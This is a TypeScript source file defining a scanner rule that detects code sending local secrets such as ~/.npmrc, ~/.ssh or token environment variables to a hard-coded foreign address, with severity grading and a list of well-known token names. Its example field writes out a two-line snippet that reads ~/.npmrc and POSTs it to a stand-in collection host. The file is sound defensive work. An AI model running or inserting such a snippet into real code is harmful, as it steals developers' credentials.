import { isChatHook, isCollectionHost, isLocalHost, isPublicAddress, belongsTo } from "../hosts.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { named, placeOf } from "../view.ts";
import type { Use } from "../../program/uses.ts";
import type { Flow } from "../../program/value.ts";

export const sendsSecrets: Rule = {
  id: "sends-secrets",
  title: "Sends secrets of this machine away",
  why:
    "Files such as ~/.npmrc or ~/.ssh, and variables named as tokens are, belong to whoever runs the " +
    "code. A tool sends a token to the service it is for; this sends it to an address that is fixed in the code and is another.",
  example:
    'const npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"));\n' +
    'https.request("https://collect.invalid", { method: "POST" }).end(npmrc);',
  advice: "Do not install it. If it has run, revoke what the files and variables named here hold.",
  severity: "critical",
  confidence: "high",
  look: (view) => view.sends.flatMap((use) => sightingOf(use, view)),
};

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  const sendings = view
    .sendingsOf(use, "secret", "clipboard", "keyboard")
    .filter(({ flow, host }) => !isLocalHost(host) && !belongsTo(flow.what, host));
  const [first] = sendings;
  if (first === undefined) return [];
  const strangers = [...new Set(sendings.map(({ flow }) => flow))];
  const collects =
    view.addressesOf(use).some(isChatHook) ||
    sendings.some(({ host }) => isCollectionHost(host) || isPublicAddress(host));
  const isGrave = collects || strangers.some((flow) => !isVariable(flow));
  const isElsewhere = strangers.length > 2 || strangers.some(({ what }) => OWNED.test(what));
  const severity = isGrave ? "critical" : isElsewhere ? "high" : "low";
  const message = `What ${named(strangers)} holds is sent to ${first.host}.`;
  return [{ place: placeOf(use), message, severity, confidence: collects ? "high" : "medium" }];
}

/** Variables whose service everybody knows, so that another address is not theirs. */
const OWNED =
  /\.(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_\w+|ACTIONS_\w+|PYPI_TOKEN)$/;

/** One variable alone is mostly a service's own token under a name we do not know. */
function isVariable(flow: Flow): boolean {
  return flow.what.startsWith("process.env.");
}
